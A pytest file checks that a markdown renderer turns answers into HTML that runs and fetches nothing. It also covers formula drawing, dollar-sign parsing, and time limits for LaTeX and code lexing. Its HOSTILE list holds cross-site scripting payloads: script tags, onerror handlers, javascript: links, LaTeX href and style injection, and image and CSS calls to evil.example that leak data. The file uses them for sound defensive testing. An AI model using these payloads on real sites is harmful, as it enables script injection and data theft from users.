"""Answers become HTML that runs nothing and fetches nothing."""

from __future__ import annotations

import re
from html import escape, unescape
from html.parser import HTMLParser
from time import monotonic

import pytest
from hypothesis import given
from hypothesis import strategies as st

from carrel.ui.markdown.code_blocks import LANGUAGES, LONGEST_COLORED
from carrel.ui.markdown.formulas import LONGEST_FORMULA
from carrel.ui.markdown.markdown import markdown_to_html

FETCHING = {"img", "script", "iframe", "object", "embed", "video", "audio", "source", "link", "svg"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=http://evil.example/a.png onerror=alert(1)>",
    "![secret](http://evil.example/a.png?q=secret)",
    "![a][r]\n\n[r]: http://evil.example/a.png",
    "![a](//evil.example/a.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    '[a](<http://evil.example/" onmouseover="alert(1)>)',
    '[a](http://evil.example "x\\" onmouseover=\\"alert(1)")',
    '<http://evil.example/"onmouseover=alert(1)>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><image href=http://evil.example/x /></svg>",
    "`<b onclick=x>`",
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "<style>@import url(http://evil.example)</style>",
    "<a href='http://evil.example' style='background:url(http://evil.example)'>x</a>",
    "${alert(1)} {{constructor}}",
    "```html\n<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&#x3c;img src=x onerror=alert(1)&#x3e;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r'$\style{background:url(http://evil.example)}{x} \class{" onclick="alert(1)}{y}$',
    r"$\unicode{x3c}img src=x onerror=alert(1)\unicode{x3e}$",
    r'\[\color{" onload="alert(1)}x \colorbox{red" style="x}{<script>alert(1)</script>}\]',
    r"$$\hspace{1em\" onclick=\"alert(1)} \verb|<script>alert(1)</script>|$$",
]


class Elements(HTMLParser):
    """Collects the elements of a text with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Return the elements of a text."""
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_inert(html: str) -> None:
    """Fail if the HTML holds anything that runs, or that fetches without a click."""
    for tag, attributes in elements(html):
        assert tag not in FETCHING
        assert not [name for name in attributes if name.startswith("on")]
        assert not {"src", "srcset", "style", "background", "poster"} & attributes.keys()
        if tag == "a":
            address = attributes["href"] or ""
            assert address.lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_inert(text: str) -> None:
    assert_inert(markdown_to_html(text))


@pytest.mark.parametrize("text", ["[pier]()", "[pier](<>)", "[pier][a]\n\n[a]: <>"])
def test_a_link_to_nowhere_is_its_text(text: str) -> None:
    html = markdown_to_html(f"The {text} is long, see [here](https://example.org).")
    assert html.count("<a ") == 1
    assert "The pier is long" in html or "[pier]" in html


@given(
    st.lists(st.sampled_from([*HOSTILE, "[", "](", ")", "![", "<", ">", "`", "$", "\n", " ", '"']))
)
def test_pieces_of_hostile_markdown_joined_in_any_way_become_inert(pieces: list[str]) -> None:
    assert_inert(markdown_to_html("".join(pieces)))


@given(st.text(alphabet="<>[]()!`\"'&;:/\\ \nahrefimgsrconjavascript=#*_|-~${}^"))
def test_random_markup_becomes_inert(text: str) -> None:
    assert_inert(markdown_to_html(text))


def test_html_is_shown_as_it_was_written() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown_to_html("<b>bold</b>")


def test_an_image_is_named_and_not_loaded() -> None:
    html = markdown_to_html("![a chart](http://evil.example/c.png)")
    assert "[Image: a chart http://evil.example/c.png]" in html


def test_a_link_shows_where_it_leads() -> None:
    (tag, attributes), *_ = [
        each for each in elements(markdown_to_html("[x](https://a.example/b)")) if each[0] == "a"
    ]
    assert tag == "a"
    assert attributes["title"] == attributes["href"] == "https://a.example/b"


def test_structure_is_kept() -> None:
    html = markdown_to_html("# T\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n`c` **d** ~~e~~")
    found = [tag for tag, _ in elements(html)]
    assert {"h1", "ul", "li", "table", "td", "code", "strong", "s"} <= set(found)


def test_a_line_break_stays_a_line_break() -> None:
    assert "<br" in markdown_to_html("one\ntwo")


def test_an_open_code_block_is_already_code_while_the_answer_is_written() -> None:
    html = markdown_to_html("```python\nprint(1)")
    assert '<span class="code-name">print</span>(' in html
    assert html.endswith("</code></pre></div>\n")


def math(latex: str) -> list[str]:
    """Return the elements of a formula, without those that only group."""
    return [tag for tag, _ in elements(markdown_to_html(latex)) if tag not in ("p", "mrow")]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (r"$\frac{a}{b}$", "math"),
        (r"\(\frac{a}{b}\)", "math"),
        (r"$$\frac{a}{b}$$", "div"),
        (r"\[\frac{a}{b}\]", "div"),
        ("$$\n\\frac{a}\n{b}\n$$", "div"),
        ("\\[\n\\frac{a}\n{b}\n\\]", "div"),
        (r"$$\frac{a}{b}$$.", "span"),
    ],
)
def test_formulas_are_drawn(text: str, kind: str) -> None:
    found = math(text)
    assert found[0] == kind
    assert found[-4:] == ["math", "mfrac", "mi", "mi"]


def test_a_formula_with_lines_to_itself_ends_a_paragraph_and_may_hold_signs_of_lists() -> None:
    html = markdown_to_html("text\n$$\na\n- b\n= c\n$$\nmore\n\n1. x\n   \\[\n   y\n   \\]")
    assert html.startswith('<p>text</p>\n<div class="formula"')
    assert html.count("<math") == 2
    assert "<p>more</p>" in html
    assert html.count("<li>") == 1


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10.",
        "Between $5-$10, or US$5 to US$6.",
        "From $HOME to $PATH, and $HOME/$PATH.",
        "($5)-($6)",
        "5$ and 6$",
        r"\$x\$",
        "$ x $",
        "$$",
        "$$ $$",
        "$x",
        r"\(x",
    ],
)
def test_a_dollar_is_money_where_it_can_be(text: str) -> None:
    assert math(text) == []


def test_formulas_in_code_stay_code() -> None:
    html = markdown_to_html("`$x$`\n\n```\n$x$\n```\n\n    $$x$$")
    assert "<math" not in html
    assert html.count("$x$") == 3


@pytest.mark.parametrize(
    "latex", [r"\nosuchcommand{x}", r"\frac", "x_1_2", r"\left(x", "}{", r"\begin{matrix} a"]
)
def test_what_is_no_formula_stays_as_it_was_written(latex: str) -> None:
    assert f'<code class="formula-source">${latex}$</code>' in markdown_to_html(f"${latex}$")


@pytest.mark.parametrize(
    "latex",
    [
        r"\hspace{900em}x",
        r"\hspace{-9em}x",
        r"\rule{900em}{900em}",
        r"\raise{90em}{x}",
        r"\color{white}{x}",
    ],
)
def test_a_formula_cannot_be_drawn_over_the_page(latex: str) -> None:
    html = markdown_to_html(f"${latex}$")
    assert "90" not in html.replace(latex, "")
    assert "-9" not in html.replace(latex, "")
    assert "mathcolor" not in html


@pytest.mark.parametrize(
    "latex",
    [
        "{" * 5000,
        "{" * 990 + "}" * 990,
        r"\sqrt" * 3000,
        r"\sqrt" * 390,
        r"\frac" * 3000,
        r"\frac" * 390,
        r"\frac1" * 330,
        "x^" * 990 + "x",
        "x'" * 990,
        r"\left(" * 330 + r"\right)" * 1,
        r"\mathchoice" * 180,
        r"\not" * 490,
        r"\begin{matrix}" * 140,
        r"\hbox{$" * 200,
        r"\newcommand{\a}{xx}"
        + "".join(
            rf"\newcommand{{\{new}}}{{\{old}\{old}}}"
            for old, new in zip("abcdefghijklmnopqrst", "bcdefghijklmnopqrstu", strict=True)
        )
        + r"\u",
    ],
    ids=range(15),
)
def test_no_formula_takes_long(latex: str) -> None:
    start = monotonic()
    markdown_to_html(f"${latex}$")
    markdown_to_html(f"$${latex}$$")
    assert monotonic() - start < 2


@pytest.mark.parametrize(
    "text", ["$$ a\n", "$a ", "$$a", r"\(", r"\[", "\\[a\n", "$\\", r"\(a", "$$\n", "${", r"$a$"]
)
def test_no_signs_of_formulas_take_long(text: str) -> None:
    start = monotonic()
    markdown_to_html(text * (20_000 // len(text)))
    assert monotonic() - start < 4


def test_a_formula_has_a_longest_length() -> None:
    assert "<math" in markdown_to_html(f"$${'x' * LONGEST_FORMULA}$$")
    assert "<math" not in markdown_to_html(f"$${'x' * (LONGEST_FORMULA + 1)}$$")


def test_a_long_formula_scrolls_by_itself() -> None:
    html = markdown_to_html(f"${'x+' * 40}y$")
    assert '<span class="formula-long" tabindex="0"' in html


@pytest.mark.parametrize("language", ["python", "PY", "python3", "python title=x"])
def test_code_gets_colors_by_classes(language: str) -> None:
    html = markdown_to_html(f"```{language}\ndef f(): return 1  # one\n```")
    assert '<span class="code-keyword">def</span>' in html
    assert '<span class="code-comment"># one</span>' in html
    assert "style=" not in html


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "text", "../python"])
def test_code_of_no_known_language_is_plain(language: str) -> None:
    html = markdown_to_html(f"```{language}\ndef f(): return '<b>'\n```")
    assert "<code>def f(): return &#x27;&lt;b&gt;&#x27;\n</code>" in html
    assert f"<span>{language or 'text'}</span>" in html


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_the_lexer_of_each_language_keeps_the_text_and_ends_in_time(language: str) -> None:
    code = "\n".join(
        ["<?php // a \"b\\n' {1.5} # <!--x--> @c `d` é\t\r$e", "&" * 4000, "a b " * 2000]
    )
    start = monotonic()
    html = markdown_to_html(f"```{language}\n{code}\n```")
    assert monotonic() - start < 3
    shown = re.sub("<[^>]*>", "", html.partition("<code>")[2])
    assert unescape(shown).strip() == code.replace("\r", "\n").strip()


def test_each_block_of_code_can_be_copied_and_reached_by_keyboard() -> None:
    found = elements(markdown_to_html("```\na\n```\n\n    b"))
    assert [tag for tag, _ in found].count("button") == 2
    assert [each["tabindex"] for tag, each in found if tag == "pre"] == ["0", "0"]


def test_long_code_stays_plain() -> None:
    line = "x = 1\n"
    assert "code-number" in markdown_to_html(f"```python\n{line * 10}```")
    long = line * (LONGEST_COLORED // len(line) + 1)
    html = markdown_to_html(f"```python\n{long}```")
    assert "code-number" not in html
    assert long in html


@pytest.mark.parametrize(
    ("language", "piece"),
    [("python", "\n\n "), ("javascript", '\\"'), ("c", "//"), ("scala", "<"), ("java", "a b ")],
)
def test_code_that_takes_long_is_plain_from_there_on(language: str, piece: str) -> None:
    code = "x" + piece * (LONGEST_COLORED // len(piece) - 1) + "y"
    start = monotonic()
    html = markdown_to_html(f"```{language}\n{code}\n```")
    assert monotonic() - start < 4
    assert re.sub("<[^>]*>", "", html.partition("<code>")[2]).strip() == escape(code)
